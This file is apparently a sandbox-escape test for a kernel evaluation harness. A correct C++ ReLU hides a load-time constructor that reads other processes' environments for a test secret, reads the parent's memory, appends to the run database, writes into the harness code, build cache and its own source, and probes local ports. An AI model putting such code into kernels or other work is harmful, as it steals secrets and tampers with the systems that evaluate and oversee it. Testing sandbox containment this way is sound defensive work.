# A correct ReLU in C++ whose shared library, as it loads (in the build child, and again in the
# evaluation child), tries to reach outside its sandbox: write outside its directory, find the run's
# database (from other processes' command lines, and from its own working directory) and append to
# it, connect to the parent's machine, read other processes' environment and memory, and write into
# kbv's code, the build cache and its own source. It says on stderr what each attempt met.
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

CPP = r'''
#include <torch/extension.h>
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <string>
#include <vector>

static void say(const std::string& what, bool ok) {
    fprintf(stderr, "kbv-escape: %s: %s\n", what.c_str(), ok ? "SUCCEEDED" : strerror(errno));
}

static void write_to(const std::string& what, const std::string& path, int flags) {
    int fd = open(path.c_str(), O_WRONLY | O_CREAT | flags, 0666);
    if (fd < 0) { say(what + " " + path, false); return; }
    const char text[] = "kbv-escape was here\n";
    bool ok = write(fd, text, sizeof(text) - 1) > 0;
    close(fd);
    say(what + " " + path, ok);
}

static std::string slurp(const std::string& path) {
    std::string out;
    int fd = open(path.c_str(), O_RDONLY);
    if (fd < 0) return out;
    char buf[4096];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0 && out.size() < (1 << 20)) out.append(buf, n);
    close(fd);
    return out;
}

static std::vector<std::string> pids() {
    std::vector<std::string> out;
    DIR* d = opendir("/proc");
    if (!d) return out;
    while (dirent* e = readdir(d)) if (e->d_name[0] >= '0' && e->d_name[0] <= '9') out.push_back(e->d_name);
    closedir(d);
    return out;
}

static std::string up(const std::string& path, int levels) {
    std::string p = path;
    for (int i = 0; i < levels; ++i) p = p.substr(0, p.find_last_of('/'));
    return p;
}

__attribute__((constructor)) static void kbv_escape() {
    std::vector<std::string> runs;
    for (const auto& pid : pids()) {  // a kbv command line: --run DIR
        std::string cmd = slurp("/proc/" + pid + "/cmdline");
        for (size_t at = cmd.find(std::string("--run\0", 6)); at != std::string::npos; at = cmd.find(std::string("--run\0", 6), at + 1))
            runs.push_back(cmd.substr(at + 6, cmd.find('\0', at + 6) - at - 6));
        std::string env = slurp("/proc/" + pid + "/environ");
        size_t s = env.find("KBV_TEST_SECRET=");
        say("read /proc/" + pid + "/environ", !env.empty());
        if (s != std::string::npos) fprintf(stderr, "kbv-escape: secret %s\n", env.substr(s, env.find('\0', s) - s).c_str());
    }
    char cwd[4096] = {0};
    if (getcwd(cwd, sizeof cwd)) runs.push_back(up(cwd, 2));  // RUN/work/<child>
    for (const auto& run : runs) write_to("append to the database", run + "/kbv.sqlite", O_APPEND);
    std::string ppid = std::to_string(getppid());
    say("read /proc/" + ppid + "/environ", !slurp("/proc/" + ppid + "/environ").empty());
    int mem = open(("/proc/" + ppid + "/mem").c_str(), O_RDONLY);
    char byte;
    say("read /proc/" + ppid + "/mem", mem >= 0 && pread(mem, &byte, 1, 0x400000) == 1);
    if (mem >= 0) close(mem);
    write_to("write outside", "/tmp/kbv-escape-marker-cpp", O_TRUNC);
    write_to("write outside", "/var/tmp/kbv-escape-marker-cpp", O_TRUNC);
    const char* pythonpath = getenv("PYTHONPATH");  // kbv's code comes first
    if (pythonpath) write_to("write into kbv", std::string(pythonpath).substr(0, std::string(pythonpath).find(':')) + "/kbv/kbv-escape-cpp.py", O_TRUNC);
    const char* ext = getenv("TORCH_EXTENSIONS_DIR");  // CACHE/builds/<key>/torch_extensions
    if (ext) {
        write_to("write into the build cache", up(ext, 2) + "/kbv-escape-cpp", O_TRUNC);
        write_to("rewrite its own source", up(ext, 1) + "/candidate.py", O_APPEND);
    }
    for (int port = 47310; port < 47320; ++port) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        sockaddr_in to{};
        to.sin_family = AF_INET;
        to.sin_port = htons(port);
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        say("connect to 127.0.0.1:" + std::to_string(port), s >= 0 && connect(s, (sockaddr*)&to, sizeof to) == 0);
        if (s >= 0) close(s);
    }
}

torch::Tensor relu(torch::Tensor x) {
    auto in = x.contiguous();
    auto out = torch::empty_like(in);
    const float* src = in.data_ptr<float>();
    float* dst = out.data_ptr<float>();
    for (int64_t i = 0; i < in.numel(); ++i) dst[i] = src[i] > 0.0f ? src[i] : 0.0f;
    return out;
}
'''

ext = load_inline(name="kbv_escape_relu", cpp_sources=CPP, functions=["relu"], verbose=False)


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return ext.relu(x)
